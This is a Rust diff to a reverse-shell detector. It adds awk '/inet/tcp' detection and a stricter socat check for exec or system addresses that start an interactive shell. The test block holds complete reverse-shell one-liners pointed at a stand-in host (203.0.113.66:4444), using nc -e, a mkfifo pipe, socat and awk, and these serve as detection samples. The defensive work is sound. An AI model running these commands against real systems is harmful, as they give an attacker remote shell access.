@@ -143,6 +143,7 @@ const RUNS: [&str; 8] = ["dup2(", "subprocess", "pty.spawn", "/bin/sh", "/bin/ba
 fn is_connecting(text: &[u8], commands: &[Command<'_>]) -> bool {
     let has = |needle: &str| text.contains_str(needle);
     // `sh -i >& /dev/tcp/…`, `exec 5<>/dev/tcp/…`. A check that only opens the port redirects nothing back.
+    let is_awk = has("/inet/tcp/") || has("/inet/udp/");
     let is_bash = (has("/dev/tcp/") || has("/dev/udp/")) && (has("0>&1") || has("<&") || has("<>") || has("-i "));
     let is_netcat = commands.iter().any(|command| {
         let named = command
@@ -160,16 +161,30 @@ fn is_connecting(text: &[u8], commands: &[Command<'_>]) -> bool {
             command.name().is_some_and(|name| matches!(name, b"nc" | b"ncat" | b"netcat" | b"telnet" | b"openssl"))
         })
         && commands.iter().any(|command| command.is_piped && command.name().is_some_and(is_shell_name));
-    let is_socat = commands.iter().any(|command| command.name() == Some(b"socat"))
-        && text.to_ascii_lowercase().contains_str("exec:")
-        && ["tcp:", "tcp4:", "tcp-connect:", "openssl:", "udp:"]
-            .iter()
-            .any(|word| text.to_ascii_lowercase().contains_str(word));
+    let is_socat = commands.iter().any(|command| command.name() == Some(b"socat")) && gives_shell(text);
     // In Python, Perl, Ruby, Node and Lua.
     let connects = has("connect(") || has("create_connection(") || has("PeerAddr") || has("TCPSocket");
     let is_script = connects && [&OPENS[..], &RUNS].iter().all(|words| words.iter().any(|word| has(word)));
     let is_php = has("fsockopen(") && (has("exec(") || has("proc_open(") || has("/bin/sh"));
-    is_bash || is_netcat || is_relayed || is_socat || is_script || is_php
+    is_awk || is_bash || is_netcat || is_relayed || is_socat || is_script || is_php
+}
+
+/// Whether an address of `socat` runs a shell that reads commands: `exec:'bash -li',pty`, `SYSTEM:sh`.
+fn gives_shell(text: &[u8]) -> bool {
+    let lower = text.to_ascii_lowercase();
+    let starts = ["exec:", "system:"]
+        .into_iter()
+        .flat_map(|word| lower.find_iter(word).map(move |at| at.saturating_add(word.len())).collect::<Vec<_>>());
+    starts.take(8).any(|from| {
+        let rest = lower.get(from..).unwrap_or_default();
+        let end = |byte: &u8| matches!(byte, b',' | b'\'' | b'"');
+        let rest = rest.trim_start_with(|c| matches!(c, '\'' | '"' | '\\'));
+        let command = rest.split(end).next().unwrap_or_default();
+        let mut words = command.fields();
+        let name = words.next().unwrap_or_default();
+        let name = name.rsplit(|&byte| byte == b'/').next().unwrap_or_default();
+        is_shell_name(name) && words.all(|word| word.starts_with(b"-") && !word.contains(&b'c'))
+    })
 }
 
 /// One command of a line: its words, and whether the one before it writes to it.
@@ -412,6 +427,8 @@ mod tests {
             "nc -e /bin/sh 203.0.113.66 4444",
             "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.66 4444 >/tmp/f",
             "socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.66:4444",
+            "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty,stderr",
+            "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.66/4444\"; while (1) {}}'",
             "import socket,os;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0)",
         ] {
             assert!(signs(text.as_bytes()).contains(&Sign::ConnectShell), "{text}");
@@ -421,6 +438,8 @@ mod tests {
             "timeout 1 bash -c '</dev/tcp/db/5432'",
             "nc -z db 5432",
             "socat TCP-LISTEN:80,fork TCP:db:80",
+            "socat TCP-LISTEN:9000,fork EXEC:/srv/handler.sh",
+            "socat TCP-LISTEN:9000,fork EXEC:'sh /srv/handler.sh'",
         ] {
             assert!(!signs(text.as_bytes()).contains(&Sign::ConnectShell), "{text}");
         }
